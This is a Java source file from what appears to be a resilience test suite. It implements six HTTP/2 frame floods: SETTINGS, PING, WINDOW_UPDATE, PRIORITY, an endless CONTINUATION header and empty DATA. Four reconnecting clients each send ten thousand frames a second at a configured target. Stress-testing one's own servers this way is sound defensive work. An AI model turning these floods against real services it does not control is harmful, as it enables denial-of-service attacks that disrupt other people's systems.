package dev.opportune.perf.attack.http2;

import dev.opportune.perf.attack.Attack;
import dev.opportune.perf.attack.Crowd;
import dev.opportune.perf.attack.Pace;
import dev.opportune.perf.attack.Target;
import dev.opportune.perf.attack.wire.Frame;
import dev.opportune.perf.attack.wire.Hpack;
import dev.opportune.perf.attack.wire.Http2;
import java.io.IOException;
import java.util.List;
import java.util.concurrent.atomic.LongAdder;

/// One kind of frame that costs its sender nothing, at a rate, and what comes back is read.
public final class Flood implements Attack {

    private static final int CLIENTS = 4;
    private static final int FRAMES_A_SECOND = 10_000;
    private static final int AT_ONCE = 200;
    private static final long RECONNECT_MILLIS = 20;
    private static final byte[] PIECE_OF_HEADERS =
            new Hpack().header("x", "y".repeat(40)).bytes();

    private final String name;
    private final Frame frame;
    private final byte[] payload;
    private final Prepare prepare;

    private Flood(String name, Frame frame, byte[] payload, Prepare prepare) {
        this.name = name;
        this.frame = frame;
        this.payload = payload;
        this.prepare = prepare;
    }

    /// Every flood.
    public static List<Flood> all() {
        return List.of(
                new Flood("settings-flood", Frame.SETTINGS, new byte[0], (_, _) -> 0),
                new Flood("ping-flood", Frame.PING, new byte[8], (_, _) -> 0),
                new Flood("window-update-flood", Frame.WINDOW_UPDATE, Frame.int32(1), (_, _) -> 0),
                new Flood("priority-flood", Frame.PRIORITY, new byte[5], (_, _) -> 7),
                new Flood("continuation-flood", Frame.CONTINUATION, PIECE_OF_HEADERS, Flood::endlessHead),
                new Flood(
                        "empty-data-flood",
                        Frame.DATA,
                        new byte[0],
                        (target, http2) -> http2.post("/v1/sends", target.keys().attacker(), "application/json")));
    }

    /// What comes before the flood on a connection; gives the stream of its frames.
    private interface Prepare {
        int on(Target target, Http2 http2) throws IOException;
    }

    @Override
    public String name() {
        return name;
    }

    @Override
    public String what() {
        return "4 clients, 10,000 " + frame + " frames a second each, reconnecting; "
                + (frame == Frame.DATA ? "with a key" : "no key");
    }

    @Override
    public void run(Target target) throws InterruptedException {
        var frames = new LongAdder();
        var connections = new LongAdder();
        int _ = Crowd.run(target, CLIENTS, _ -> {
            while (!target.isOver()) {
                try (var http2 = target.http2()) {
                    connections.increment();
                    flood(target, http2, frames);
                } catch (IOException _) {
                    // the next one
                }
                Thread.sleep(RECONNECT_MILLIS);
            }
        });
        target.tell(frames.sum() + " frames on " + connections.sum() + " connections");
    }

    private void flood(Target target, Http2 http2, LongAdder frames) throws IOException, InterruptedException {
        int stream = prepare.on(target, http2);
        var pace = Pace.perSecond((double) FRAMES_A_SECOND / AT_ONCE);
        while (!target.isOver() && !http2.isOver()) {
            pace.next();
            for (int i = 0; i < AT_ONCE; i++) http2.send(frame, 0, stream, payload);
            http2.flush();
            frames.add(AT_ONCE);
        }
    }

    private static int endlessHead(Target target, Http2 http2) throws IOException {
        int stream = http2.newStream();
        http2.send(
                Frame.HEADERS,
                Frame.END_STREAM,
                stream,
                Hpack.request("GET", "/v1/events", "").bytes());
        return stream;
    }
}
